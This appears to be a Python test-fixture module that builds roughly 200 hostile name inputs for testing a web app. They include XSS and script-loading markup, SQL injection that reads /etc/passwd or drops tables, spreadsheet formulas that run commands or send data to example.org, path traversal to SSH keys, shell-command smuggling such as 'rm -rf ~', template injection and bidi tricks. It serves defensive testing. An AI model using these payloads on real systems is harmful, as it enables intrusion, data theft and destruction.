"""What somebody hostile may write for a name: 200 texts, by what they attack."""

MARK = "zqx"
"""In every hostile text, so that a test can tell where it went."""

LONG = 100_000
"""Characters of a text that is far too long."""


def markup() -> list[str]:
    """HTML that would run something."""
    events = (
        "onerror",
        "onload",
        "onfocus",
        "onmouseover",
        "ontoggle",
        "onanimationstart",
        "onwheel",
        "oncopy",
        "onscroll",
    )
    return [
        "<script>alert(1)</script>",
        "<ScRiPt src=//example.org/x.js></sCrIpT>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "</script><script>alert(1)//",
        "--><script>alert(1)</script><!--",
        "]]><script>alert(1)</script>",
        '"><script>alert(1)</script>',
        "'-alert(1)-'",
        "</title></style></textarea><b onclick=alert(1)>",
        *(f"<img src=x {event}=alert(1) tabindex=1 autofocus>" for event in events),
        "<svg/onload=alert(1)>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)>",
        "<iframe srcdoc='<script>parent.alert(1)</script>'>",
        "<object data='data:text/html,<script>alert(1)</script>'>",
        "<base href=https://example.org/>",
        "<meta http-equiv=refresh content='0;url=https://example.org'>",
        "<link rel=stylesheet href=https://example.org/x.css>",
        "<style>* { display: none }</style>",
        "<form action=https://example.org><input autofocus onfocus=alert(1)>",
        "<details open ontoggle=alert(1)>",
        "<!-- comment",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&#x3c;img src=x onerror=alert(1)&#x3e;",
        "<plaintext>",
        "<marquee onstart=alert(1)>",
    ]


def addresses() -> list[str]:
    """What a page might make a link of, or a request."""
    schemes = ("javascript:", "JaVaScRiPt:", "java\tscript:", "data:text/html,", "vbscript:", "file:///etc/", "blob:")
    return [
        *(f"{scheme}alert(1)" for scheme in schemes),
        "https://example.org/www.example.org ",
        "//example.org/x",
        r"\\example.org\share",
        "mailto:someone@example.org",
        "http://[::1]:1/",
        "submission?id=../../etc",
    ]


def markdown() -> list[str]:
    """Markdown, and what Streamlit adds to it."""
    return [
        "![seen](https://example.org/pixel.png)",
        "[click](javascript:alert(1))",
        "[click]: https://example.org 'title'\n\n[click]",
        "<https://example.org>",
        "[![x](data:image/svg+xml,<svg/onload=alert(1)>)](https://example.org)",
        "# heading\n\n- list\n\n| a | b |\n|---|---|",
        "a\n===\n\nb\n---",
        "***bold* _and_ ~~not~~**",
        "> quote\n\n1. one\n   - [ ] todo",
        "```python\nimport os\n```",
        "    indented code\n\n<!-- hidden -->",
        "`code``` \\` [^1]\n\n[^1]: foot",
        ":red[alarm] :blue-background[calm] :rainbow[all]",
        ":material/skull: :streamlit: :smile: :+1:",
        ":small[x] :badge[y] :red-badge[:material/check: z]",
        ":shortcode_of_nothing: ::::",
        "<- -> <-> -- >= ~=",
    ]


def formulas() -> list[str]:
    """LaTeX, and what a spreadsheet would compute."""
    starts = ("=", "+", "-", "@", "\t=", "\r=", "|")
    return [
        r"$\href{https://example.org}{x}$ $$\frac{1}{0}$$",
        r"$\includegraphics{https://example.org/x.png}$",
        r"$$\def\x{\x\x}\x$$",
        r"$\unclosed{ $$ \begin{matrix}",
        "costs $5 and $6",
        r"\(x\) \[y\] \$z\$ \\",
        *(f"{start}cmd|'/C calc'!A1" for start in starts),
        '=HYPERLINK("https://example.org?"&A1,"open")',
        '=IMPORTXML("https://example.org","//a")',
        "+1+1",
    ]


def queries() -> list[str]:
    """SQL, by everything that a careless query would do with it."""
    endings = ("--", ";--", "/*", "#", ";", "')--", '")--', "\\'--")
    calls = ("read_text('/etc/passwd')", "read_csv('/etc/*')", "glob('/**')", "getenv('HOME')", "version()")
    calls += ("read_blob('/proc/self/environ')", "query('SELECT 1')", "duckdb_settings()")
    return [
        "'; DROP TABLE submissions; --",
        "'); DELETE FROM entries; COMMIT; --",
        *(f"' OR 1=1{ending}" for ending in endings),
        *(f"' UNION SELECT {call} --" for call in calls),
        *("$search", "$q", "$1", "?", ":name", "@p", "%(x)s"),
        "'; ATTACH 'x.duckdb'; COPY entries TO 'x'; --",
        "'; INSTALL httpfs; LOAD httpfs; --",
        "'; SET enable_external_access = true; --",
        "''''' \"\"\" `` $$ $a$x$a$",
        "100% _ .* [a-z] \\d",
        "x' AND (SELECT pg_sleep(9)) --",
        "NULL", "true; SELECT", "CAST('a' AS INT)",
    ]  # fmt: skip


def paths() -> list[str]:
    """What might be opened as a file."""
    return [
        "../../../../etc/passwd",
        "..\\..\\windows\\win.ini",
        "/dev/zero",
        "~/.ssh/id_rsa",
        "%2e%2e%2f%2e%2e%2f",
        "records/*/record.json",
        "file.csv; rm -rf ~",
        "$(touch x) `touch x` && touch x",
        "CON.txt ",
        ".",
        "a/b\\c:d",
    ]


def templates() -> list[str]:
    """Placeholders of formats, templates, charts and JSON."""
    return [
        "{{7*7}} ${7*7} datum.x %s {0}",
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "{% for x in range(9999999) %}{% endfor %}",
        "{0.__class__} {name!r:>9999999} {",
        "%s%s%n %(name)s %c %99999d",
        "<%= 7*7 %> #{7*7} @(7*7)",
        "datum['x'] || alert(1)",
        "'+alert(1)+'",
        '"}],"x":[{"y":"',
        '{"__proto__": {"polluted": 1}}',
        "\\u003cscript\\u003e \\x3c \\n \\",
        "constructor", "__proto__", "toString", "hasOwnProperty",
    ]  # fmt: skip


def words() -> list[str]:
    """What a parser might take for something else than words."""
    numbers = ("NaN", "inf", "-Infinity", "1e999", "-0", "0x10", "1_000", "١٢٣", "½", "-1", "1/3", "1.5.2")
    return [f"{word} " for word in (*numbers, "null", "None", "undefined", "true", "[]", "{}", "2025-02-30", "1,5")]


def unseen() -> list[str]:
    """Characters that are not seen, or turn or bury others."""
    return [
        "\u202egnp.exe\u2066 \u200f",
        "\u2067שלום\u2069 abc \u202d",
        "العربية mixed עברית",
        "a\u200db\u200cc\u200bd\ufeff",
        "\x00\x1b[31m",
        "".join(map(chr, range(1, 32))) + "\x7f\x85\x9b",
        "line\u2028paragraph\u2029end",
        "z" + "\u0300\u0301\u0302\u0303\u0304" * 40,
        "\u0338" * 30,
        "\U000e0041\U000e0042 tags",
        "\ufffe\uffff\U0010ffff",
        "\u3164\u115f\u2800\xa0",
        " " * 60,
        "\t\t\t",
        "аdmin ро1е",  # Cyrillic
        "ﬁ Ⅳ ß ſ ẞ",
        *(f"ab{turn}cd" for turn in "\u202a\u202b\u202c\u202d\u2066\u2068\u200e\u061c"),
    ]


def pictures() -> list[str]:
    """Emoji of many parts."""
    return [
        "👩‍💻🏳️‍🌈" * 9,
        "👨‍👩‍👧‍👦🇩🇪👍🏿",
        "\U0001f1e6" * 41,
        "☠\ufe0e☠\ufe0f1\ufe0f\u20e3",
        "W" * 81,
        "⚑ ✓ ✗ → ↵ �",
        "🫠",
        "🀄\ufe0e🃏",
    ]


def long() -> list[str]:
    """Far more than fits; the mark comes first, too, for the end is not shown."""
    texts = ("x" * LONG, "word " * (LONG // 5), "\n" * (LONG // 10), "漢字" * (LONG // 20), "ﷺ" * 500)
    return [MARK + text for text in (*texts, "<b>" * (LONG // 30), "[" * (LONG // 10), "😀" * 300)]


FAMILIES = (markup, addresses, markdown, formulas, queries, paths, templates, words, unseen, pictures, long)
HOSTILE = tuple(f"{text}{MARK}" for family in FAMILIES for text in family())
SOME = tuple(f"{text}{MARK}" for family in FAMILIES for text in family()[:2])
"""Two of each family."""
